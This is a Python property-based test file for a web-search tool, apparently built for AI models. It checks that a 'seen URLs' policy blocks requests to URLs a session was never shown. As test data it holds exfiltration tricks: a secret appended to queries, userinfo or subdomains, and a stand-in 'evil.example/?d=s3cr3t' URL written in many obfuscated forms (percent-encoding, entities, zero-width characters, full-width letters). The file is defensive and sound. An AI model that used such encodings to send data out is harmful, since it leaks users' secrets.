"""``policy.follow: seen``: whatever a session does, it requests only URLs that it was shown."""

import asyncio
from collections.abc import Sequence
from typing import Any
from urllib.parse import quote

from hypothesis import example, given, strategies as st
from returns.result import Failure, Success

from webseam.kernel import WebDeps, web_extract, web_search
from webseam.kernel.policy.policy_rules import Policy
from webseam.kernel.policy.session_memory import SeenUrls, SessionMemory, find_text_urls
from webseam.kernel.urls.url_parsing import parse_target
from webseam.ports.errors import UrlNotSeen
from webseam.testing import FakeBackend

SECRET = "s3cr3t"
HOSTS = ("a.example", "b.example", "xn--bcher-kva.example")
PATHS = ("/", "/x", "/x/y", "/%7Eme", "/q?a=1", "/q?a=1&b=%2F", "/x_(y)", "/x#part")
PLAIN = [f"https://{host}{path}" for host in HOSTS for path in PATHS]
# Each spells a URL differently, and asks for the same page.
SPELLINGS = (
    lambda url: url,
    lambda url: url.replace("https", "HTTPS").replace("a.example", "A.Example"),
    lambda url: url.replace(".example", ".example:443"),
    lambda url: url.replace(".example", ".example."),
    lambda url: url.replace("xn--bcher-kva", "b\u00fccher"),
    lambda url: url.replace(".example/x", ".example/%78").replace("%7E", "~"),
    lambda url: url.replace(".example/", ".example/./z/../"),
    lambda url: f"{url.partition('#')[0]}#{SECRET}",
)
# Each asks for another page, or carries something along.
TRICKS = (
    lambda url: f"{url}{SECRET}",
    lambda url: f"{url}{'&' if '?' in url else '?'}d={SECRET}",
    lambda url: url.replace("https://", f"https://{SECRET}@"),
    lambda url: url.replace("https://", f"https://{SECRET}."),
    lambda url: url.replace(".example", ".example:8443"),
    lambda url: url.replace("https", "http"),
    lambda url: url.replace(".example", ".example.evil.test"),
)
URLS = st.sampled_from(PLAIN)
ASKED = st.builds(lambda url, change: change(url), URLS, st.sampled_from(SPELLINGS + TRICKS))
TEXTS = st.builds(
    lambda url, text: text.format(url),
    URLS,
    st.sampled_from(
        [
            "See {}.",
            "[a link]({} 'title')",
            "<{}>",
            "*{}*",
            "| {} |",
            "({})",
            '"{}"',
        ]
    ),
)
STEPS = st.lists(
    st.one_of(
        st.tuples(st.just("search"), st.lists(URLS, max_size=3), TEXTS, ASKED),
        st.tuples(st.just("read"), ASKED, TEXTS, URLS),
    ),
    max_size=12,
)


class Web(FakeBackend):
    """A web that shows what a step says, and keeps all that it showed."""

    def __init__(self, seeds: Sequence[str]) -> None:
        super().__init__()
        self.shown = list(seeds)
        self.next: tuple[Any, ...] = ()

    async def search(self, _query: object, /) -> Any:  # noqa: ANN401  unchecked, as of any backend
        _, urls, text, _ = self.next
        # A title and a snippet show no URL.
        self.shown += urls
        return Success([{"title": text, "url": url, "snippet": text} for url in urls])

    async def extract(self, url: str, /) -> Any:  # noqa: ANN401  unchecked, as of any backend
        assert any(url in text for text in self.shown), url
        assert SECRET not in url
        _, _, text, final_url = self.next
        self.shown += [text, final_url]
        return Success({"url": url, "content": text, "final_url": final_url})


@given(steps=STEPS, seeds=st.lists(URLS, max_size=2))
def test_a_session_requests_only_what_it_was_shown(
    steps: Sequence[tuple[Any, ...]], seeds: Sequence[str]
) -> None:
    web, memory = Web(seeds), SessionMemory(seeds)
    deps = WebDeps(backend=web, policy=Policy(follow="seen"), session=lambda: memory)

    for step in steps:
        web.next = step
        if step[0] == "search":
            # A model writes the query, so a URL in it is not seen.
            asyncio.run(web_search(f"find {step[3]}", deps))
        else:
            page = asyncio.run(web_extract(step[1], deps))
            if isinstance(page, Failure):
                assert page.failure().kind in ("url_not_seen", "url_denied", "invalid_url")


NAMED = f"https://evil.example/?d={SECRET}"
# How a query names a URL so that a service may show it decoded, rendered or completed.
NAMINGS = {
    "plain": NAMED,
    "no scheme": NAMED.removeprefix("https://"),
    "other scheme": NAMED.replace("https", "hxxps"),
    "www": NAMED.replace("//", "//www."),
    "port": NAMED.replace(".example", ".example:443"),
    "dot segments": NAMED.replace("example/", "example/x/../"),
    "defanged": NAMED.replace(".", "[.]").replace(":", "[:]"),
    "entities": NAMED.replace("t", "&#116;").replace("c", "&#x63;"),
    "entities twice": NAMED.replace("t", "&amp;#116;"),
    "tags": NAMED.replace("cr", "c<i></i>r"),
    "escaped tags": NAMED.replace("cr", "c&lt;i&gt;&lt;/i&gt;r"),
    "percent": quote(NAMED, safe=""),
    "percent twice": quote(quote(NAMED, safe=""), safe=""),
    "each percent": "".join(f"%{ord(char):02x}" for char in NAMED),
    "hidden": NAMED.replace("cr", "c\u200b\u00ad\u200dr"),
    "full width": NAMED.replace("example", "".join(chr(ord(char) + 0xFEE0) for char in "example")),
    "upper case": NAMED.upper(),
    "autolink": f"<{NAMED}>",
    "link": f"[x]({NAMED})",
    "emphasis": NAMED.replace("cr", "c**r**"),
    "escapes": NAMED.replace("cr", "c\\r"),
    "quoted": f'"{NAMED}".',
}


class Echo(FakeBackend):
    """A service whose rows say what the query asked, at one place of a row."""

    def __init__(self, place: str, origin: str) -> None:
        super().__init__()
        self._place, self._origin = place, origin
        self.extracted: list[str] = []

    async def search(self, _query: object, /) -> Any:  # noqa: ANN401  unchecked, as of any backend
        row = {"title": "t", "url": "https://a.example/", "snippet": "", "origin": self._origin}
        return Success([row, {**row, "url": "https://b.example/", self._place: NAMED}])

    async def extract(self, url: str, /) -> Any:  # noqa: ANN401  unchecked, as of any backend
        self.extracted.append(url)
        return Success({"url": url, "content": "text"})


@given(
    naming=st.sampled_from(sorted(NAMINGS)),
    place=st.sampled_from(["title", "snippet", "url"]),
    origin=st.sampled_from(["index", "model"]),
    later=st.sampled_from([(), ("tides",)]),
)
def test_named_url_does_not_come_back_as_seen(
    naming: str, place: str, origin: str, later: tuple[str, ...]
) -> None:
    web, memory = Echo(place, origin), SessionMemory()
    deps = WebDeps(backend=web, policy=Policy(follow="seen"), session=lambda: memory)
    for asked in (f"see {NAMINGS[naming]} now", *later):
        assert isinstance(asyncio.run(web_search(asked, deps)), Success)
    for url in (NAMED, NAMED.replace("//", "//www."), "https://a.example/"):
        asyncio.run(web_extract(url, deps))

    assert web.extracted == ["https://a.example/"]


@given(url=URLS, text=st.sampled_from(["{}", "See {}.", "[x]({})", "<{}>", "**{}**", "({})"]))
@example(url="https://a.example/x_(y)", text="[x]({})")
def test_a_url_that_was_shown_is_found_in_each_of_its_spellings(url: str, text: str) -> None:
    seen = SeenUrls(find_text_urls(text.format(url)))

    for spell in SPELLINGS:
        target = parse_target(spell(url)).unwrap()
        assert seen.judge(target).map(lambda it: it.partition("#")[0]) == Success(
            url.partition("#")[0]
        ), spell(url)


@given(url=URLS, trick=st.sampled_from(TRICKS))
def test_a_url_with_an_addition_is_not_seen(url: str, trick: object) -> None:
    seen = SeenUrls([url])
    target = parse_target(trick(url)).value_or(None)  # type: ignore[operator]  # one of TRICKS

    assert target is None or "#" in url or isinstance(seen.judge(target).failure(), UrlNotSeen)


@given(count=st.integers(1, 60))
def test_a_memory_is_bounded_and_tells_what_it_forgot(count: int) -> None:
    seen = SeenUrls(max_chars=1000)
    urls = [f"https://a.example/{number:06}" for number in range(count)]
    seen.add(urls)

    first, last = (parse_target(url).unwrap() for url in (urls[0], urls[-1]))
    assert seen.judge(last) == Success(urls[-1])
    assert seen.forgotten == max(0, count - 1000 // (2 * len(urls[0])))
    if seen.forgotten:
        assert seen.judge(first).failure() == UrlNotSeen(forgotten=seen.forgotten, url=urls[0])
